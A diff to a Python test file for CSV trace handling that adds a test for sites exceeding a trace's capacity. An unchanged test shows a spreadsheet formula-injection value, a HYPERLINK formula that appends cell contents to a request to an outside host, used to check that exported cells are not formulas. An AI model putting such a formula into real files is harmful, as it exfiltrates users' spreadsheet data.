@@ -252,6 +252,15 @@ class TestCsv:
             write_any(trace, path)
             assert stacks(read_any(path)) == stacks(trace)
 
+    def test_places_beyond_what_a_trace_has_room_for(self, tmp_path):
+        rows = [f"0,{row},8,{'x' * 5000}{row}" for row in range(300)]
+        (tmp_path / "t.csv").write_text("\n".join(["op,id,size,site", *rows]))
+        trace = from_csv(tmp_path / "t.csv")
+        left_out = trace.meta["settled"]["sites_left_out"]
+        assert 0 < left_out == (trace.site < 0).sum()
+        trace.save(tmp_path / "t.npz")
+        assert Trace.load(tmp_path / "t.npz") == trace
+
     def test_no_cell_is_a_formula(self, tmp_path):
         site = '=HYPERLINK("http://elsewhere/?"&A1,"look"):1 f\n+1+1:2 g'
         trace = Trace.from_columns("t", op=[0], id=[0], size=[8], site=[0], meta={"sites": [site]})
